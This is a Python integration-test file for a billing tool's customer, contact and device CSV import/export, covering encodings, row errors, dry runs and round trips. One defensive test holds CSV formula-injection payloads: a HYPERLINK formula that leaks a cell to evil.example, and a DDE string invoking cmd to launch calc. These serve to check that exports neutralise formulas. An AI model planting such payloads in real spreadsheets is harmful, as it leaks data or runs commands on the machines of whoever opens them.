"""Customer cards, contacts and assignments as CSV on both stores: round trips, encodings billing staff's files
come in, every row problem reported with its row and column, all or nothing, dry runs."""

from __future__ import annotations

import asyncio
import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from billing.exchange import ASSIGNMENT_COLUMNS, CONTACT_COLUMNS, CUSTOMER_COLUMNS, DEVICE_COLUMNS
from daemon.kernel.reading import DeviceInfo
from daemon.storage.audit import find_audit
from daemon.storage.billing import BillingStore
from daemon.storage.repository import Store
from tests.integration.test_billing import _ready, cli, daily
from tests.integration.test_billing import config as config  # noqa: PLC0414 - the fixture, by its name


def _csv(columns: tuple[str, ...], rows: list[dict[str, str]], encoding: str) -> bytes:
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=columns, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows([dict.fromkeys(columns, "") | row for row in rows])
    return out.getvalue().encode(encoding)


def _card(code: str, name: str, country: str, currency: str, city: str) -> dict[str, str]:
    return {
        "code": code,
        "legal_name": name,
        "country": country,
        "street": "1 Main St",
        "city": city,
        "address_country": country,
        "currency": currency,
        "tax_scheme": "other",
    }


def _files(
    directory: Path,
    cards: list[dict[str, str]],
    people: list[dict[str, str]],
    moves: list[dict[str, str]] | None = None,
    encoding: str = "utf-8",
) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "customers.csv").write_bytes(_csv(CUSTOMER_COLUMNS, cards, encoding))
    (directory / "contacts.csv").write_bytes(_csv(CONTACT_COLUMNS, people, encoding))
    if moves is not None:
        (directory / "assignments.csv").write_bytes(_csv(ASSIGNMENT_COLUMNS, moves, encoding))
    return directory


def _contact(customer: str, name: str, email: str = "ap@example.com", billing: str = "yes") -> dict[str, str]:
    return {"customer": customer, "name": name, "email": email, "billing": billing}


async def test_an_export_imported_again_changes_nothing_and_exports_the_same_bytes(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await _ready(store_url, config, daily("KY1", date(2026, 9, 20), 3, mono=10, color=1), "KY1")
    first = tmp_path / "first"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(first)) == 0
    assert (first / "customers.csv").read_bytes().startswith(b"\xef\xbb\xbfcode,legal_name,")  # BOM: Excel reads UTF-8
    async with Store.open(store_url) as store:
        before = len(await find_audit(store, limit=1000))
    capsys.readouterr()
    assert await asyncio.to_thread(cli, config, "customers", "import", str(first), "--by", "carla") == 0
    assert "customers: 0 new, 0 changed, 1 unchanged; assignments: 0 new, 1 unchanged" in capsys.readouterr().out
    second = tmp_path / "second"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(second)) == 0
    for name in ("customers.csv", "contacts.csv", "assignments.csv", "devices.csv"):
        assert (second / name).read_bytes() == (first / name).read_bytes(), name
    assert "KY1,Kyocera,,,acme-hq" in (first / "devices.csv").read_text(encoding="utf-8-sig")
    async with Store.open(store_url) as store:
        assert len(await find_audit(store, limit=1000)) == before  # nothing changed, nothing audited


@pytest.mark.parametrize(
    ("encoding", "card"),
    [
        ("cp1254", ("SISLI", "Şişli Büro Makineleri A.Ş.", "TR", "TRY", "İstanbul")),
        ("gb18030", ("BJCOPY", "北京复印机有限公司", "CN", "CNY", "北京")),
        ("utf-8-sig", ("MUC", "Kopierwerk München GmbH", "DE", "EUR", "München")),
    ],
)
async def test_files_in_the_encodings_they_come_in(  # noqa: PLR0917 - fixtures and one row of the table
    store_url: str,
    config: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    encoding: str,
    card: tuple[str, str, str, str, str],
) -> None:
    code, name, _, _, city = card
    folder = _files(tmp_path / "in", [_card(*card)], [_contact(code, "Ayşe Çelik")], encoding=encoding)
    args = ["customers", "import", str(folder)]
    if encoding != "utf-8-sig":
        assert await asyncio.to_thread(cli, config, *args) == 1  # not UTF-8: refused, with what to do
        assert "customers.csv: row 2: not UTF-8 text; name its encoding, e.g. --encoding cp1254" in (
            capsys.readouterr().err
        )
        args += ["--encoding", encoding]
    assert await asyncio.to_thread(cli, config, *args) == 0
    async with Store.open(store_url) as store:
        stored = (await BillingStore(store).book()).customers[code]
    assert (stored.legal_name, stored.address.city, stored.contacts[0].name) == (name, city, "Ayşe Çelik")


async def test_every_row_problem_is_reported_with_row_and_column_and_nothing_changes(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cards = [
        _card("ACME", "Acme GmbH", "DE", "EUR", "Berlin"),
        _card("ACME", "Acme again", "DE", "EUR", "Berlin"),  # row 3: the same code twice
        _card("TURK", "Türk Ofis", "Türkiye", "TRY", "Ankara"),  # row 4: not an ISO country code
        _card("NOBILL", "No Billing Contact Ltd", "GB", "GBP", "Leeds") | {"payment_terms_days": "ninety"},  # row 5
    ]
    people = [
        _contact("ACME", "Petra"),
        _contact("TURK", "Mehmet", email="mehmet(at)example.com"),  # row 3 of contacts: not an e-mail
        _contact("NOBILL", "Someone", billing="no"),
        _contact("GHOST", "Nobody"),  # row 5: a customer not in the file
    ]
    moves = [{"device": "KY1", "customer": "ACME", "from": "2026-13-01"}]  # row 2: no such date
    folder = _files(tmp_path / "bad", cards, people, moves)
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder), "--dry-run") == 1
    err = capsys.readouterr().err
    for expected in (
        "customers.csv: row 3: code: 'ACME' is on an earlier row too",
        "customers.csv: row 4: country: must be an ISO 3166 two-letter code",
        "contacts.csv: row 3: email: is not an e-mail address",
        "customers.csv: row 5: payment_terms_days: Input should be a valid integer",
        "contacts.csv: row 5: customer: no customer 'GHOST' in customers.csv",
        "assignments.csv: row 2: from: a date as YYYY-MM-DD",
        "problem(s) in",
    ):
        assert expected in err, expected
    async with Store.open(store_url) as store:
        assert (await BillingStore(store).book()).customers == {}


async def test_a_refused_row_leaves_the_whole_import_undone_and_a_dry_run_writes_nothing(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async with Store.open(store_url) as store:
        await store.store(
            daily("KY1", date(2026, 9, 20), 2, mono=10, color=1),
            now=daily("KY1", date(2026, 9, 20), 1, mono=10, color=1)[0].taken_at,
        )
    cards = [_card("ACME", "Acme GmbH", "DE", "EUR", "Berlin"), _card("BETA", "Beta AG", "DE", "EUR", "Bonn")]
    people = [_contact("ACME", "Petra"), _contact("BETA", "Bernd")]
    moves = [
        {"device": "KY1", "customer": "ACME", "from": "2026-09-01"},
        {"device": "NO-SUCH-PRINTER", "customer": "BETA", "from": "2026-09-01"},
    ]
    folder = _files(tmp_path / "in", cards, people, moves)
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder)) == 1
    assert "assignments.csv: row 3:" in capsys.readouterr().err
    async with Store.open(store_url) as store:
        assert (await BillingStore(store).book()).customers == {}  # ACME and BETA were valid, and are not there
    # A device the office registers in devices.csv can be assigned in the same import, before it first reads.
    (folder / "devices.csv").write_bytes(
        _csv(DEVICE_COLUMNS, [{"key": "NO-SUCH-PRINTER", "vendor": "Ricoh", "site": "beta-bonn"}], "utf-8")
    )
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder), "--dry-run") == 0
    assert "assignments: 2 new, 0 unchanged; devices: 1 saved" in capsys.readouterr().out
    folder = _files(tmp_path / "good", cards, people, moves[:1])
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder), "--dry-run") == 0
    assert "customers: 2 new, 0 changed, 0 unchanged; assignments: 1 new" in capsys.readouterr().out
    async with Store.open(store_url) as store:
        assert (await BillingStore(store).book()).customers == {}
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder), "--by", "carla") == 0
    async with Store.open(store_url) as store:
        book = await BillingStore(store).book()
        assert sorted(book.customers) == ["ACME", "BETA"]
        assert [(a.device, a.customer) for a in book.assignments] == [("KY1", "ACME")]
        assert {e.actor for e in await find_audit(store, target="customer:")} == {"carla"}


async def test_the_deployments_own_fields_and_required_fields_travel_in_the_csv(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config.write_text(
        config.read_text() + '[customers]\nrequired = ["custom.account_manager"]\n'
        '[[customers.fields]]\nname = "account_manager"\ntype = "choice"\nchoices = ["anna", "ben"]\n'
        '[[customers.fields]]\nname = "fleet_size"\ntype = "number"\n'
    )
    cards = [
        _card("ACME", "Acme GmbH", "DE", "EUR", "Berlin")
        | {"custom.account_manager": "anna", "custom.fleet_size": "12.50", "tags": "key-account;education"},
        _card("BETA", "Beta AG", "DE", "EUR", "Bonn") | {"custom.fleet_size": "3"},
    ]
    columns = (*CUSTOMER_COLUMNS, "custom.account_manager", "custom.fleet_size")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "customers.csv").write_bytes(_csv(columns, cards, "utf-8"))
    (folder / "contacts.csv").write_bytes(
        _csv(CONTACT_COLUMNS, [_contact("ACME", "Petra"), _contact("BETA", "Bernd")], "utf-8")
    )
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder)) == 1
    assert "customers.csv: row 3: custom.account_manager: required here" in capsys.readouterr().err
    cards[1]["custom.account_manager"] = "ben"
    (folder / "customers.csv").write_bytes(_csv(columns, cards, "utf-8"))
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder)) == 0
    out = tmp_path / "out"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(out)) == 0
    exported = (out / "customers.csv").read_text(encoding="utf-8-sig").splitlines()
    assert exported[0].endswith(",tags,notes,custom.account_manager,custom.fleet_size")
    assert exported[1].endswith(",key-account;education,,anna,12.5")  # the number in its canonical form
    capsys.readouterr()
    assert await asyncio.to_thread(cli, config, "customers", "import", str(out)) == 0
    assert "0 new, 0 changed, 2 unchanged" in capsys.readouterr().out
    assert (
        await asyncio.to_thread(
            cli, config, "customers", "comment", "ACME", "Wants colour pages capped", "--by", "carla"
        )
        == 0
    )
    capsys.readouterr()
    assert await asyncio.to_thread(cli, config, "customers", "show", "ACME") == 0
    assert "Wants colour pages capped" in capsys.readouterr().out


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


async def test_a_formula_in_a_cell_is_exported_as_text_kept_intact_and_imported_back_unchanged(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A name through `customers import`, a phone and a printer's own model string: each would run as a formula.
    hostile = replace(
        daily("KY1", date(2026, 9, 20), 1, mono=10, color=1)[0],
        device=DeviceInfo(key="KY1", vendor="Kyocera", model="@SUM(1+1)*cmd|' /C calc'!A0"),
    )
    await _ready(store_url, config, [hostile], "KY1")
    card = _card("EVIL", HYPERLINK, "DE", "EUR", "-Berlin") | {"trade_name": "'=already quoted", "notes": "\tTab"}
    source = _files(tmp_path / "in", [card], [_contact("EVIL", "+49 30 1234567") | {"phone": "+49 30 1234567"}])
    assert await asyncio.to_thread(cli, config, "customers", "import", str(source), "--by", "carla") == 0
    async with Store.open(store_url) as store:
        stored = (await BillingStore(store).book()).customers["EVIL"]
    # A ' typed before a formula means "text" in a spreadsheet: it is taken off, as a spreadsheet would.
    assert (stored.legal_name, stored.trade_name, stored.address.city) == (HYPERLINK, "=already quoted", "-Berlin")
    exported = tmp_path / "out"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(exported)) == 0
    [row] = [
        r
        for r in csv.DictReader(io.StringIO((exported / "customers.csv").read_text("utf-8-sig")))
        if r["code"] == "EVIL"
    ]
    # A leading ' is how a spreadsheet is told "text": the cell shows the formula, it does not run it.
    assert (row["legal_name"], row["trade_name"], row["city"]) == ("'" + HYPERLINK, "'=already quoted", "'-Berlin")
    contacts = (exported / "contacts.csv").read_text("utf-8-sig")
    assert "EVIL,'+49 30 1234567,,ap@example.com,'+49 30 1234567,yes" in contacts
    assert "KY1,Kyocera,'@SUM(1+1)*cmd|' /C calc'!A0" in (exported / "devices.csv").read_text("utf-8-sig")
    capsys.readouterr()
    assert await asyncio.to_thread(cli, config, "customers", "import", str(exported), "--by", "carla") == 0
    assert "0 changed" in capsys.readouterr().out  # the export reads back as exactly what is stored
    assert await asyncio.to_thread(cli, config, "readings", "--format", "csv") == 0
    assert ",KY1,Kyocera,'@SUM(1+1)*cmd|' /C calc'!A0,mono," in capsys.readouterr().out


async def test_a_devices_name_location_and_cost_centre_travel_in_devices_csv_and_an_older_file_keeps_them(
    store_url: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await _ready(store_url, config, daily("KY1", date(2026, 9, 20), 1, mono=10, color=1), "KY1")
    folder = tmp_path / "in"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(folder)) == 0
    labelled = {"key": "KY1", "vendor": "Kyocera", "site": "acme-hq", "name": "Empfang", "location": "Büro 2. OG"}
    # A cost centre that a spreadsheet would run as a formula: stored as typed, exported as text.
    (folder / "devices.csv").write_bytes(_csv(DEVICE_COLUMNS, [labelled | {"cost_centre": "=4711"}], "utf-8-sig"))
    capsys.readouterr()
    assert await asyncio.to_thread(cli, config, "customers", "import", str(folder), "--by", "carla") == 0
    assert "devices: 1 saved" in capsys.readouterr().out
    async with Store.open(store_url) as store:
        device = await store.device("KY1")
        [entry] = [e for e in await find_audit(store, target="device:KY1", limit=10) if e.action == "device.save"]
    assert (device.name, device.location, device.cost_centre) == ("Empfang", "Büro 2. OG", "=4711")
    assert entry.actor == "carla"
    out = tmp_path / "out"
    assert await asyncio.to_thread(cli, config, "customers", "export", str(out)) == 0
    exported = (out / "devices.csv").read_text(encoding="utf-8-sig")
    assert exported.splitlines()[0] == "key,vendor,model,address,site,name,location,cost_centre"
    assert "KY1,Kyocera,,,acme-hq,Empfang,Büro 2. OG,'=4711" in exported
    assert await asyncio.to_thread(cli, config, "customers", "import", str(out)) == 0
    assert "devices: 0 saved" in capsys.readouterr().out  # the export reads back as exactly what is stored
    # A devices.csv from before these columns: read, and the office's names stay as they are.
    old = ("key", "vendor", "model", "address", "site")
    (out / "devices.csv").write_bytes(_csv(old, [{"key": "KY1", "vendor": "Kyocera", "site": "acme-hq"}], "utf-8"))
    assert await asyncio.to_thread(cli, config, "customers", "import", str(out)) == 0
    assert "devices: 0 saved" in capsys.readouterr().out
    async with Store.open(store_url) as store:
        assert (await store.device("KY1")).cost_centre == "=4711"
    (out / "devices.csv").write_bytes(_csv(DEVICE_COLUMNS, [labelled | {"cost_centre": "K" * 65}], "utf-8"))
    assert await asyncio.to_thread(cli, config, "customers", "import", str(out)) == 1
    assert "devices.csv: row 2: cost_centre: at most 64 characters" in capsys.readouterr().err
